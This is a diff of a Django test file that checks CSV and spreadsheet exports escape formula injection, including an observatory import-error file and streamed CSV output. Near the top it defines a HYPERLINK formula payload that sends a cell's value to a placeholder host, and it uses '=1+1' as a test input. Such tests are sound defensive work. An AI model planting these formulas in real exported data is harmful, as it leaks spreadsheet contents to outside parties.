@@ -2,17 +2,15 @@
 
 import csv
 import io
-import json
 from types import SimpleNamespace
 
 import pytest
-from django.core.files.base import ContentFile
-from django.core.files.storage import default_storage
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from maillage.kernel.exports import Column, Table, safe_cell, tabular_response
-from maillage.observatory.importers import generic
+from maillage.observatory import import_files
+from maillage.observatory.importers.store import ImportReport
 from tests.companies.factories import EstablishmentFactory
 
 ATTACK = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'
@@ -81,20 +79,26 @@ def test_an_observatory_import_error_is_neutralised_in_the_error_file(client, ch
     """Regression: the observatory's import-error file wrote each message as is (its own ``csv.writer``),
     so a value quoted in an error could run as a formula in the analyst's spreadsheet."""
     client.force_login(charge_mission)
-    token = "0123456789abcdef0123456789abcdef"
-    report = {
-        "name": "f.csv",
-        "summary": "",
-        "dry_run": True,
-        "error_count": 1,
-        "errors": [[3, "=1+1 n'est pas un code INSEE"]],
-    }
-    default_storage.save(f"{generic.REPORTS_DIR}/{token}.json", ContentFile(json.dumps(report).encode()))
+    report = ImportReport(key="f", dry_run=True)
+    report.error(3, "=1+1 n'est pas un code INSEE")
+    token = import_files.save_report(report, "f.csv")
     session = client.session
     session["observatory_import_errors"] = token
     session.save()
-    body = client.get(reverse("observatory:import_errors")).content.decode("utf-8-sig")
+    body = b"".join(client.get(reverse("observatory:import_errors")).streaming_content).decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(body), delimiter=";")) == [
         ["ligne", "erreur"],
         ["3", "'=1+1 n'est pas un code INSEE"],
     ]
+
+
+def test_a_streamed_csv_is_the_same_file_sent_by_chunks(settings):
+    from maillage.kernel import exports
+
+    settings.MAILLAGE_CSV_DECIMAL_COMMA = True
+    rows = [[n, f"=ligne {n}", 1.5 * n] for n in range(2500)]
+    whole = exports.csv_response("f", ["n", "texte", "valeur"], rows)
+    streamed = exports.csv_streaming_response("f", ["n", "texte", "valeur"], iter(rows))
+    chunks = list(streamed.streaming_content)
+    assert len(chunks) == 3 and b"".join(chunks) == whole.content
+    assert streamed["Content-Disposition"] == whole["Content-Disposition"]
